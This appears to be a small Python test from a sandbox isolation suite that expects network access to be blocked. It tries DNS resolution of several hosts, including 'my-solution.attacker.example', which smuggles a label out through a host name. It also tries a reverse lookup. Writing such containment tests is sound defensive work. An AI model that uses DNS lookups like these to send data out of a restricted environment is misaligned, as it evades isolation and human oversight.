"""Sends data away inside host names, which a resolver carries even where no connection is allowed."""

# kind: network
# expect: blocked

# %%
import socket

from attack import attempt

# %%
socket.setdefaulttimeout(1)
for host in ("example.com", "my-solution.attacker.example", "pypi.org"):
    attempt(host, socket.getaddrinfo, host, 80)

# %%
attempt("reverse look-up", socket.gethostbyaddr, "1.1.1.1")
